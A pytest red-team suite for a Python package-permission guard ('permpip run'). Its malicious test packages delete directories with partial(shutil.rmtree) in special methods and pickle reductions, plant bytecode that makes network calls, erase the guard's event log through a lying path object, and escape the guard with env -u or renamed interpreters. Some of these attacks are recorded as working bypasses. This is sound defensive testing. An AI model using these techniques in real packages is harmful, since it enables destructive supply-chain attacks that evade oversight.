"""Red team of ``permpip run``, eighth round: what the interpreter and the standard library
do for a package that the guard reads otherwise.

1. Callables the interpreter calls with no frame of the package: special methods that are a
   ``functools.partial`` (``__del__``, ``__set_name__``, ``__class_getitem__``), a
   ``__reduce_ex__`` whose callable ``copy.copy`` or ``pickle`` calls, hooks set through
   ``sys`` (``set_asyncgen_hooks``, ``breakpointhook``).
2. Bytecode read from where the import system looks for it: ``sys.pycache_prefix`` set by
   the package, a ``.pyc`` written beside the application's module.
3. The guard's own files reached through a path object that answers the guard and the
   real ``open`` differently (``__fspath__``).
4. Children started through a program that is not a shell (``env -u PYTHONPATH``,
   ``nice``, ``timeout``), through a link to the interpreter named otherwise, or told to
   read their start-up bytecode from a prefix directory (``-X pycache_prefix``).
5. A file two distributions' RECORDs list (a wheel shipping a file over another's).
6. Standard library plumbing with exemptions or registries of its own (linecache asking a
   loader, ``encodings._cache``, ``os.environ``'s reduction).
7. The application's locals collected by ``traceback``'s ``capture_locals`` for evil.

Harness: tests/runtime/test_guard_redteam.py's ``attack`` (``evil`` installed with a
RECORD, ``main.py`` the application). Each attack proves its effect (a directory gone, a
marker written, a request the local server received); one the guard stops is a plain test
asserting the report, one that succeeds is ``xfail(strict=True)`` with its mechanism and
what would close it.
"""

from __future__ import annotations

import importlib._bootstrap_external as bootstrap_external
import os
import sys
from pathlib import Path

import pytest

from tests.runtime.conftest import RunPermpip, Target, install_fake, policy_toml, read_report
from tests.runtime.test_guard_redteam import CHILD, Outcome, _child, attack
from tests.runtime.test_guard_redteam4 import SECRET, _secret
from tests.runtime.test_guard_redteam5 import _victim, took_effect


def bypass8(mechanism: str, fix: str) -> pytest.MarkDecorator:
    """A bypass: only the report's assertion may fail (an attack that no longer takes
    effect raises :class:`AttackFailed`, which fails the test)."""
    return pytest.mark.xfail(strict=True, raises=AssertionError,
                             reason=f"bypass: {mechanism}; fix: {fix}")


def _rm_attack(tmp_path: Path, run_permpip: RunPermpip, evil: str, main: str,
               enforce: bool = False) -> tuple[Outcome, Path]:
    victim = _victim(tmp_path)
    o = attack(tmp_path, run_permpip, evil.replace("@VICTIM@", str(victim)),
               main=main, enforce=enforce)
    return o, victim


# -- 1. callables with no frame of the package ---------------------------------------------

SPECIAL = bypass8(
    "a functools.partial(shutil.rmtree, dir) set as a class's special method is called by "
    "the interpreter's slot (type creation, deallocation, a subscript in an annotation) from "
    "the application's frames, "
    "with no code of evil's on the stack",
    "judge a call of a special method that is not a function by the class that holds it "
    "(its module's distribution)")


@pytest.mark.parametrize("evil,main", [
    pytest.param(
        "import functools, shutil\n"
        "class Handle:\n"
        "    __del__ = functools.partial(shutil.rmtree, '@VICTIM@')\n",
        "import evil\nh = evil.Handle()\ndel h\n", marks=SPECIAL, id="__del__"),
    pytest.param(
        "import functools, shutil\n"
        "class Field:\n"
        "    __set_name__ = functools.partial(shutil.rmtree, '@VICTIM@')\n",
        "import evil\nclass Model:\n    name = evil.Field()\n", marks=SPECIAL,
        id="__set_name__"),
    pytest.param(
        "import functools, shutil\n"
        "class Model:\n"
        "    __class_getitem__ = functools.partial(shutil.rmtree, '@VICTIM@')\n",
        "import evil\ndef handler(items: evil.Model[int]) -> None:\n    pass\n",
        marks=SPECIAL, id="__class_getitem__"),
    pytest.param(
        "import shutil\n"
        "class Config:\n"
        "    def __reduce_ex__(self, protocol):\n"
        "        return (shutil.rmtree, ('@VICTIM@',))\n",
        "import copy, evil\ncopy.copy(evil.Config())\n",
        marks=bypass8("copy.copy calls the callable a __reduce_ex__ of evil's returns: "
                      "evil's frame has returned, copy._reconstruct calls shutil.rmtree "
                      "for the application",
                      "judge the callable of a reduce value by the distribution whose "
                      "__reduce_ex__ returned it (wrap copy/pickle's reconstruction)"),
        id="copy-reduce"),
    pytest.param(
        "import shutil\n"
        "class Config:\n"
        "    def __reduce_ex__(self, protocol):\n"
        "        return (shutil.rmtree, ('@VICTIM@',))\n",
        "import evil, pickle\npickle.loads(pickle.dumps(evil.Config()))\n",
        marks=bypass8("pickle.loads of an object of evil's that the application pickled "
                      "calls the reduce value's shutil.rmtree from _pickle's C code under "
                      "the application's frame",
                      "judge a reduce value's callable by the class that returned it (record "
                      "it at pickling, or refuse stdlib callables in a distribution's reduce)"),
        id="pickle-reduce"),
    pytest.param(
        "import functools, shutil, sys\n"
        "def arm():\n"
        "    sys.set_asyncgen_hooks(firstiter=functools.partial(shutil.rmtree, '@VICTIM@'))\n",
        "import evil\nevil.arm()\n"
        "async def agen():\n    yield 1\n"
        "g = agen()\ntry:\n    g.__anext__().send(None)\nexcept StopIteration:\n    pass\n",
        id="asyncgen-firstiter"),
])
def test_callables_with_no_frame_of_the_package(tmp_path: Path, run_permpip: RunPermpip,
                                                evil: str, main: str) -> None:
    o, victim = _rm_attack(tmp_path, run_permpip, evil, main)
    took_effect(not victim.exists(), o)
    assert ("evil", "fs-write") in o.used, o.output


def test_a_special_method_of_its_own_code_is_its_own(tmp_path: Path,
                                                     run_permpip: RunPermpip) -> None:
    """The same slot with a function of evil's: its frame is on the stack, refused."""
    o, victim = _rm_attack(tmp_path, run_permpip, (
        "import shutil\n"
        "class Field:\n"
        "    def __set_name__(self, owner, name):\n"
        "        shutil.rmtree('@VICTIM@')\n"),
        "import evil\ntry:\n    class Model:\n        name = evil.Field()\n"
        "except RuntimeError as exc:\n    print('refused:', exc.__cause__)\n", enforce=True)
    assert victim.exists(), o.output
    assert o.used == [("evil", "fs-write")]
    assert "permpip: evil 1.0 may not use fs-write" in o.output


# -- 2. bytecode read from where the import system looks for it -----------------------------

NET = "import urllib.request\nurllib.request.urlopen({url!r} + '?planted').read()\n"


def _pyc(source_path: str, url: str) -> bytes:
    """An unchecked hash-based ``.pyc`` of NET compiled under ``source_path``'s name: the
    import system loads it without reading the source."""
    code = compile(NET.format(url=url), source_path, "exec")
    return bytes(bootstrap_external._code_to_hash_pyc(code, b"\0" * 8, checked=False))


PLANT = """\
import importlib.util, os, sys

def plant(source, data, prefix=None):
    if prefix is not None:
        sys.pycache_prefix = prefix  # a plain attribute: the import system reads it per import
    path = importlib.util.cache_from_source(source)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    return path
"""


def test_a_pyc_for_the_applications_module(tmp_path: Path, target: Target,
                                           run_permpip: RunPermpip) -> None:
    """evil (granted fs-write) writes a .pyc for the application's helper.py beside it:
    a .pyc a distribution wrote is its own (its network use is evil's)."""
    source = tmp_path / "project" / "helper.py"
    data = _pyc(str(source), target.url)
    o = attack(tmp_path, run_permpip, PLANT, grant='["fs-write"]', target=target, main=(
        "import evil, sys\n"
        "open('helper.py', 'w').write('VALUE = 1\\n')\n"
        f"evil.plant({str(source)!r}, {data!r}, None)\n"
        "try:\n    import helper\nexcept OSError as exc:\n    print('refused:', exc)\n"))
    took_effect(target.requests, o)
    assert ("evil", "network") in o.used, o.output


def _prefix_refused(o: Outcome, target: Target) -> None:
    """sys.pycache_prefix set by evil is put back at the next event (evil's makedirs)
    and is a guard use of evil's, in report mode too: the planted .pyc is never read."""
    assert not target.requests, o.output
    assert o.used == [("evil", "guard")], o.output
    v = o.violation("guard")
    assert v["detail"] == ("sets sys.pycache_prefix (bytecode read from a directory of its "
                           "choosing as others' modules; put back)"), v
    assert v["where"] == "evil/__init__.py:7", v
    assert "ran before" not in o.output


@pytest.mark.parametrize("enforce", [False, True], ids=["report", "enforce"])
def test_a_pyc_for_the_applications_module_under_a_prefix(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, enforce: bool) -> None:
    """evil (granted fs-write) sets sys.pycache_prefix (no event) and writes a .pyc for the
    application's helper.py under it: refused (put back) at evil's next event."""
    source = tmp_path / "project" / "helper.py"
    data = _pyc(str(source), target.url)
    o = attack(tmp_path, run_permpip, PLANT, grant='["fs-write"]', target=target,
               enforce=enforce, main=(
                   "import evil, sys\n"
                   "open('helper.py', 'w').write('VALUE = 1\\n')\n"
                   "try:\n"
                   f"    evil.plant({str(source)!r}, {data!r}, "
                   f"{str(tmp_path / 'pycache')!r})\n"
                   "except OSError as exc:\n    print('refused:', exc)\n"
                   "print('prefix', sys.pycache_prefix)\n"
                   "import helper\nprint('VALUE', helper.VALUE)\n"))
    _prefix_refused(o, target)
    assert "prefix None" in o.output and "VALUE 1" in o.output, o.output
    assert ("refused: permpip: evil 1.0 may not use guard" in o.output) == enforce, o.output


def test_a_pyc_for_a_standard_library_module_under_a_prefix(
        tmp_path: Path, target: Target, run_permpip: RunPermpip) -> None:
    """evil (granted fs-write) sets sys.pycache_prefix and writes a .pyc for a standard
    library module not yet imported (colorsys): the prefix is put back (report mode), the
    standard library's own colorsys imported."""
    import colorsys
    source = colorsys.__file__
    data = _pyc(source, target.url)
    o = attack(tmp_path, run_permpip, PLANT, grant='["fs-write"]', target=target, main=(
                   "import evil, sys\n"
                   f"evil.plant({source!r}, {data!r}, {str(tmp_path / 'pycache')!r})\n"
                   "import colorsys\nprint('rgb', colorsys.rgb_to_hsv(1, 0, 0))\n"))
    _prefix_refused(o, target)
    assert "rgb (0.0, 1.0, 1)" in o.output, o.output


# -- 3. the guard's files through a path object that says otherwise --------------------------

LIAR = """\
import os, pathlib, sys, urllib.request

class Liar(pathlib.PurePosixPath):
    # the slots the guard reads (_str, _parts) name a harmless file; the interpreter's
    # conversion before the event calls __fspath__
    def __fspath__(self):
        return TARGET[0]

TARGET = []

def run_dir():
    [d] = [p for p in sys.path if os.path.basename(p).startswith("permpip-run-")]
    return d

def overwrite(target, decoy, text):
    TARGET.append(target)
    p = Liar(decoy)
    str(p)  # caches _str
    try:
        with open(p, "w") as f:
            f.write(text)
        print("overwrote", target)
    except PermissionError as exc:
        print("refused:", exc)

def go(url, decoy):
    urllib.request.urlopen(url + "?before").read()
    overwrite(os.path.join(run_dir(), "events.jsonl"), decoy, "")
"""


def test_erasing_the_events_through_a_lying_path_object(tmp_path: Path, target: Target,
                                                         run_permpip: RunPermpip) -> None:
    o = attack(tmp_path, run_permpip, LIAR, grant='["fs-write"]', target=target, main=(
        "import evil, os\n"
        f"evil.go(os.environ.get('TARGET_URL', {target.url!r}), {str(tmp_path / 'decoy')!r})\n"))
    """The guard judges the path the interpreter converted, not the object's slots: the
    overwrite is refused in every mode and the network use stays in the report."""
    took_effect(target.requests, o)
    assert o.used == [("evil", "network"), ("evil", "guard")], o.output
    v = o.violation("guard")
    assert v["event"] == "open" and v["denied"] is True, v
    assert v["detail"].startswith("writes the guard's files: ") and \
        v["detail"].endswith("/events.jsonl"), v
    assert "overwrote" not in o.output


# -- 4. children through a program that is not a shell ---------------------------------------

@pytest.mark.parametrize("start", [
    pytest.param("subprocess.run(['env', '-u', 'PYTHONPATH', sys.executable, '-c', CHILD])",
                 id="env-u"),
    pytest.param("subprocess.run(['env', '-i', sys.executable, '-c', CHILD])", id="env-i"),
    pytest.param("subprocess.run(['env', '-S', '-uPYTHONPATH ' + sys.executable + ' -c', "
                 "CHILD])", id="env-split-string"),
    pytest.param("subprocess.run(['env', '-C', '/', 'PYTHONPATH=/nonexistent', "
                 "sys.executable, '-c', CHILD])", id="env-chdir-set"),
    pytest.param("subprocess.run(['nice', '-n', '1', sys.executable, '-I', '-c', CHILD])",
                 id="nice"),
    pytest.param("subprocess.run(['timeout', '20', sys.executable, '-S', '-c', CHILD])",
                 id="timeout"),
])
def test_children_through_a_launcher_without_the_guard(tmp_path: Path,
                                                       run_permpip: RunPermpip,
                                                       start: str) -> None:
    """evil (granted subprocess, --enforce) starts the interpreter through env, nice or
    timeout with the guard dropped (env -u/-i) or refused (-I, -S); the child, the
    application's code, writes the marker."""
    o = _child(tmp_path, run_permpip, start)
    # a child neither refused nor run: the attack did not take effect
    took_effect(o.marker.exists() or ("evil", "guard") in o.used, o)
    assert ("evil", "guard") in o.used, o.output
    assert not o.marker.exists(), o.output


# -- 5. a file two distributions' RECORDs list ----------------------------------------------


def _overlapping_site(tmp_path: Path, target: Target, first: bool) -> tuple[Path, str]:
    """A site directory holding GOOD (granted network) and evil, whose wheel ships
    GOOD/__init__.py over GOOD's own (an installer overwrites it; both RECORDs list it).
    GOOD is named so that its dist-info is listed before evil's (``first``) or after: the
    guard reads the dist-infos in directory order."""
    payload = "def fetch():\n    " + NET.format(url=target.url).replace("\n", "\n    ")
    for i in range(40):
        good = f"good{i}"
        site = tmp_path / f"site{i}"
        install_fake(site, good, "1.0", {f"{good}/__init__.py": "def fetch():\n    pass\n"})
        install_fake(site, "evil", "1.0", {"evil/__init__.py": "",
                                           f"{good}/__init__.py": payload})
        names = [n for n in os.listdir(site) if n.endswith(".dist-info")]
        if (names.index(f"{good}-1.0.dist-info") < names.index("evil-1.0.dist-info")) == first:
            return site, good
    raise AssertionError("no name listed " + ("before" if first else "after") + " evil's")


@pytest.mark.parametrize("first", [
    True, False,
], ids=["granted-read-first", "evil-read-first"])
def test_a_file_evil_overwrites_in_a_granted_distribution(tmp_path: Path, target: Target,
                                                          run_permpip: RunPermpip,
                                                          first: bool) -> None:
    """The application calls GOOD.fetch(), which is evil's code (--enforce): refused and
    named evil's whichever dist-info the guard reads first."""
    site, good = _overlapping_site(tmp_path, target, first)
    project = tmp_path / "project"
    project.mkdir()
    (project / "pyproject.toml").write_text(policy_toml({"evil": "[]", good: '["network"]'}))
    (project / "main.py").write_text(f"import {good}\ntry:\n    {good}.fetch()\n"
                                     "except OSError as exc:\n    print('refused:', exc)\n")
    out = project / "report.json"
    done = run_permpip("run", "--enforce", "--format", "json", "--output", str(out), "--",
                       sys.executable, "main.py", cwd=project, extra_path=[site])
    o = Outcome(done.returncode, read_report(out), done.stdout + done.stderr, tmp_path)
    took_effect(target.requests or "refused" in o.output, o)
    assert not target.requests, o.output
    assert o.used == [("evil", "network")], o.output
    v = o.violation("network")
    assert (v["phase"], v["where"], v["denied"]) == ("runtime", f"{good}/__init__.py:3", True)


# -- 6. standard library plumbing with exemptions or registries of its own ------------------


@pytest.mark.parametrize("enforce", [False, True], ids=["report", "enforce"])
def test_a_file_read_through_linecache_with_a_stdlib_loader(
        tmp_path: Path, run_permpip: RunPermpip, enforce: bool) -> None:
    """linecache's lazycache asks a module's ``__loader__`` for the source of a file name
    that does not exist: evil hands it the standard library's SourceFileLoader on a secret
    file (linecache reads installed sources for tracebacks; the import system's reads are
    its caller's)."""
    secret = _secret(tmp_path)
    o = attack(tmp_path, run_permpip, (
        "import importlib.machinery, linecache\n"
        "def read(path):\n"
        "    loader = importlib.machinery.SourceFileLoader('evil_x', path)\n"
        "    g = {'__name__': 'evil_x', '__loader__': loader}\n"
        "    try:\n"
        "        return ''.join(linecache.getlines('/nonexistent/evil_x.py', g))\n"
        "    except PermissionError as exc:\n"
        "        return 'refused: %s' % exc\n"), enforce=enforce,
        main=f"import evil\nprint('LEAK', evil.read({str(secret)!r}))\n")
    if enforce:
        assert SECRET not in o.output, o.output
    else:
        took_effect(SECRET in o.output, o)
    assert o.used == [("evil", "fs-read")], o.output


@bypass8("encodings._cache (encodings.search_function's plain dict) holds a CodecInfo whose "
         "encoder is partial(shutil.rmtree, dir): the application's first 'text'.encode() "
         "with that codec calls it from C, no frame of evil's (codecs.register is adopted, "
         "this cache is not)",
         "adopt the CodecInfo callables encodings.search_function returns from its cache, "
         "or judge a partial by the distribution that made it")
def test_a_codec_planted_in_the_encodings_cache(tmp_path: Path,
                                                run_permpip: RunPermpip) -> None:
    """codecs.register's callbacks are adopted; encodings.search_function's own cache is a
    plain dict: a CodecInfo whose encoder is partial(shutil.rmtree, dir) runs when the
    application first encodes with that codec."""
    o, victim = _rm_attack(tmp_path, run_permpip, (
        "import codecs, encodings, functools, shutil\n"
        "def arm():\n"
        "    rm = functools.partial(shutil.rmtree, '@VICTIM@')\n"
        "    encodings._cache['koi8_u'] = codecs.CodecInfo(rm, rm, name='koi8_u')\n"),
        "import evil\nevil.arm()\ntry:\n    'text'.encode('koi8_u')\nexcept Exception:\n"
        "    pass\n")
    took_effect(not victim.exists(), o)
    assert ("evil", "fs-write") in o.used, o.output


@pytest.mark.parametrize("how", ["copy.copy(os.environ)",
                                 "vars(os.environ)", "os.environ.__reduce_ex__(2)"])
def test_the_environment_through_its_reduction(tmp_path: Path, run_permpip: RunPermpip,
                                               how: str) -> None:
    """evil (granted nothing) reads os.environ's state without indexing it."""
    o = attack(tmp_path, run_permpip, (
        "import copy, os, pickle\n"
        "def leak():\n"
        "    try:\n"
        f"        return repr({how})\n"
        "    except PermissionError as exc:\n"
        "        return 'refused: %s' % exc\n"), enforce=True,
        main="import evil\nprint('LEAK', evil.leak())\n")
    assert "s3cret-value" not in o.output, o.output
    assert "LEAK refused: permpip: evil 1.0 may not use env" in o.output, o.output
    assert o.used == [("evil", "env")], o.output


# -- 4b. a child's start-up bytecode -------------------------------------------------------

BEFORE = """\
import posix
fd = posix.open({marker!r}, posix.O_WRONLY | posix.O_CREAT | posix.O_APPEND, 0o644)
posix.write(fd, b"ran before the guard\\n")
posix.close(fd)
fd = posix.open({real!r}, posix.O_RDONLY)  # the real encodings, so that the child starts
source = b""
while chunk := posix.read(fd, 1 << 16):
    source += chunk
posix.close(fd)
exec(compile(source, {real!r}, "exec"))
"""


@pytest.mark.parametrize("call", [
    pytest.param("[sys.executable, '-X', 'pycache_prefix=' + D, '-c', 'pass']",
                 id="X-option"),
    pytest.param("[sys.executable, '-Xpycache_prefix=' + D, '-c', 'pass']",
                 id="X-joined"),
    pytest.param("[sys.executable, '-c', 'pass'], env={'PYTHONPYCACHEPREFIX': D}",
                 id="environment"),
])
def test_a_child_reading_bytecode_from_a_prefix(tmp_path: Path, run_permpip: RunPermpip,
                                                call: str) -> None:
    """evil plants the standard library's encodings as bytecode under a prefix directory
    and starts a Python child told to read bytecode there (--enforce)."""
    import encodings
    real = encodings.__file__
    marker = tmp_path / "before"
    code = compile(BEFORE.format(marker=str(marker), real=real), real, "exec")
    data = bytes(bootstrap_external._code_to_hash_pyc(code, b"\0" * 8, checked=False))
    o = attack(tmp_path, run_permpip, PLANT + (
        "import subprocess\n"
        "def go(real, data, d):\n"
        "    D = d\n"
        "    path = plant(real, data, d)\n"
        "    sys.pycache_prefix = None\n"
        "    try:\n"
        f"        subprocess.run({call})\n"
        "    except PermissionError as exc:\n"
        "        print('refused:', exc)\n"), grant='["subprocess", "fs-write"]', enforce=True,
        main=f"import evil\nevil.go({real!r}, {data!r}, {str(tmp_path / 'prefix')!r})\n")
    took_effect(marker.exists() or ("evil", "guard") in o.used, o)
    assert ("evil", "guard") in o.used, o.output
    assert not marker.exists(), o.output


# -- 7. the application's locals read by the standard library for evil -----------------------


@pytest.mark.parametrize("read", [
    pytest.param("[f.locals for f in traceback.StackSummary.extract("
                 "traceback.walk_stack(None), lookup_lines=False, capture_locals=True)]"),
    pytest.param("[f.locals for f in traceback.TracebackException("
                 "*sys.exc_info(), lookup_lines=False, capture_locals=True).stack]"),
    "repr([fi.frame.f_locals.get('password') for fi in inspect.stack()])",
], ids=["walk-stack-capture-locals", "traceback-exception-capture-locals", "inspect-stack"])
def test_locals_captured_by_a_stdlib_helper(tmp_path: Path, run_permpip: RunPermpip,
                                            read: str) -> None:
    """evil (granted nothing, --enforce) has the standard library collect the locals of
    its callers' frames (never reading a frame itself)."""
    o = attack(tmp_path, run_permpip, (
        "import inspect, sys, traceback\n"
        "def go():\n"
        "    try:\n"
        f"        print('LEAK', {read})\n"
        "    except PermissionError as exc:\n"
        "        print('refused:', exc)\n"), main=(
        "import evil\n"
        "def main():\n"
        "    password = 'hunter2-app-secret'\n"
        "    try:\n"
        "        raise ValueError\n"
        "    except ValueError:\n"
        "        evil.go()\n"
        "main()\n"), enforce=True)
    took_effect("hunter2" in o.output or "refused" in o.output, o)
    assert o.used == [("evil", "introspection")], o.output
    assert "hunter2" not in o.output, o.output


@pytest.mark.parametrize("start", [
    "os.symlink(sys.executable, D + '/node')\n"
    "    subprocess.run([D + '/node', '-I', '-c', CHILD])",
    pytest.param(
        "try:\n"
        "        os.link(os.path.realpath(sys.executable), D + '/ruby')\n"
        "    except OSError:  # another file system: a copy\n"
        "        import shutil; shutil.copy2(os.path.realpath(sys.executable), D + '/ruby')\n"
        "    subprocess.run([D + '/ruby', '-I', '-c', CHILD])",
        id="hardlink"),
    pytest.param(
        "import shutil; shutil.copy2(os.path.realpath(sys.executable), D + '/ruby')\n"
        "    subprocess.run([D + '/ruby', '-I', '-c', CHILD])",
        id="copy"),
], ids=["symlink", "hardlink", "copy"])
def test_children_through_a_renamed_interpreter(tmp_path: Path, run_permpip: RunPermpip,
                                                start: str) -> None:
    """evil (granted subprocess, fs-write, --enforce) starts the interpreter through a link
    of its own named otherwise, with -I."""
    d = tmp_path / "bin"
    d.mkdir()
    o = attack(tmp_path, run_permpip, (
        "import os, subprocess, sys\n"
        f"CHILD = {CHILD!r}\n"
        f"D = {str(d)!r}\n"
        "def go():\n"
        f"    {start}\n"), enforce=True,
        grant='["subprocess", "fs-write", "fs-read"]' if "copy2" in start
        else '["subprocess", "fs-write"]')
    took_effect(o.marker.exists() or ("evil", "guard") in o.used, o)
    assert ("evil", "guard") in o.used, o.output
    assert not o.marker.exists(), o.output


def test_a_stack_summary_without_locals_is_the_standard_librarys(
        tmp_path: Path, run_permpip: RunPermpip) -> None:
    """The same helpers without capture_locals (a traceback formatted, names and lines
    only): not introspection of evil's (--enforce)."""
    o = attack(tmp_path, run_permpip, (
        "import sys, traceback\n"
        "def go():\n"
        "    try:\n"
        "        a = traceback.TracebackException(*sys.exc_info(), lookup_lines=False)\n"
        "        b = traceback.StackSummary.extract(traceback.walk_stack(None),\n"
        "                                           lookup_lines=False)\n"
        "        print('NAMES', [f.name for f in a.stack], [f.locals for f in b][:1])\n"
        "    except PermissionError as exc:\n"
        "        print('refused:', exc)\n"), main=(
        "import evil\n"
        "def main():\n"
        "    try:\n"
        "        raise ValueError\n"
        "    except ValueError:\n"
        "        evil.go()\n"
        "main()\n"), enforce=True)
    assert "NAMES ['main'] [None]" in o.output, o.output
    assert o.used == [], o.output


def test_asyncio_sets_its_own_asyncgen_hooks(tmp_path: Path, run_permpip: RunPermpip) -> None:
    """asyncio's own sys.set_asyncgen_hooks (the standard library's, not adopted) and a
    hook function of evil's own (its frames its own) under --enforce: nothing is judged."""
    o = attack(tmp_path, run_permpip, (
        "import asyncio, sys\n"
        "SEEN = []\n"
        "def first(agen):\n"
        "    SEEN.append('first')\n"
        "async def agen():\n"
        "    yield 1\n"
        "async def main():\n"
        "    return [x async for x in agen()]\n"
        "def go():\n"
        "    out = asyncio.run(main())\n"
        "    sys.set_asyncgen_hooks(firstiter=first)\n"
        "    g = agen()\n"
        "    try:\n"
        "        g.__anext__().send(None)\n"
        "    except StopIteration:\n"
        "        pass\n"
        "    return out, SEEN\n"), main="import evil\nprint('OUT', evil.go())\n",
        enforce=True)
    assert "OUT ([1], ['first'])" in o.output, o.output
    assert o.used == [], o.output


def test_a_breakpointhook_no_code_names(tmp_path: Path, run_permpip: RunPermpip) -> None:
    """sys.breakpointhook set to partial(shutil.rmtree, dir) (a plain attribute, no event)
    by evil: the application's breakpoint() calls a hook no frame attributes, refused in
    every mode (report mode here) as a guard use at the breakpoint()."""
    o, victim = _rm_attack(tmp_path, run_permpip, (
        "import functools, shutil, sys\n"
        "def arm():\n"
        "    sys.breakpointhook = functools.partial(shutil.rmtree, '@VICTIM@')\n"),
        "import evil\nevil.arm()\ntry:\n    breakpoint()\nexcept RuntimeError as exc:\n"
        "    print('refused:', exc.__cause__ or exc)\n")
    assert victim.exists(), o.output
    assert o.used == [("<app>", "guard")], o.output
    v = o.violation("guard")
    assert v["detail"] == ("calls a sys.breakpointhook the guard cannot attribute "
                           "(partial)"), v
    assert v["denied"] is True, v


def test_a_breakpointhook_of_code_runs(tmp_path: Path, run_permpip: RunPermpip) -> None:
    """A breakpointhook that is a function (evil's, or the application's) runs, its frames
    judged as its own."""
    o = attack(tmp_path, run_permpip, (
        "import sys\n"
        "def hook(*a, **k):\n"
        "    print('HOOK ran')\n"
        "def arm():\n"
        "    sys.breakpointhook = hook\n"),
        main="import evil\nevil.arm()\nbreakpoint()\n", enforce=True)
    assert "HOOK ran" in o.output, o.output
    assert o.used == [], o.output
